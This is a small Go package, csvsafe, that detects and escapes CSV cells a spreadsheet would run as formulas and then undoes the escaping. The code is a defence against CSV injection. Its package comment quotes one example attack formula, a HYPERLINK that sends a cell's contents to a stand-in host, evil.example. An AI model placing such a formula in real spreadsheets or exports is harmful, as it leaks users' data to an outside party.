// Package csvsafe keeps text written to CSV from being run as a formula
// by the spreadsheet that opens the file (CSV injection): a contact named
// `=HYPERLINK("https://evil.example/?"&A1)` stays a name.
package csvsafe

// Needs reports whether a spreadsheet would read s, as a CSV cell, as a
// formula: it starts with '=', '@', a tab or a carriage return, or with
// '+' or '-' followed by something other than a number (digits, spaces,
// parentheses, dots, slashes, '+' and '-': a phone number "+1 415 555
// 0100", an amount "-5" are left alone).
func Needs(s string) bool {
	if s == "" {
		return false
	}
	switch s[0] {
	case '=', '@', '\t', '\r':
		return true
	case '+', '-':
		for i := 1; i < len(s); i++ {
			switch c := s[i]; {
			case c >= '0' && c <= '9', c == ' ', c == '(', c == ')', c == '.', c == '/', c == '+', c == '-':
			default:
				return true
			}
		}
	}
	return false
}

// Escape returns s with an apostrophe in front when Needs(s), as
// spreadsheets themselves mark text that looks like a formula; else s.
func Escape(s string) string {
	if Needs(s) {
		return "'" + s
	}
	return s
}

// Unescape undoes Escape: s without its first apostrophe when what
// follows it Needs one; else s.
func Unescape(s string) string {
	if len(s) > 1 && s[0] == '\'' && Needs(s[1:]) {
		return s[1:]
	}
	return s
}
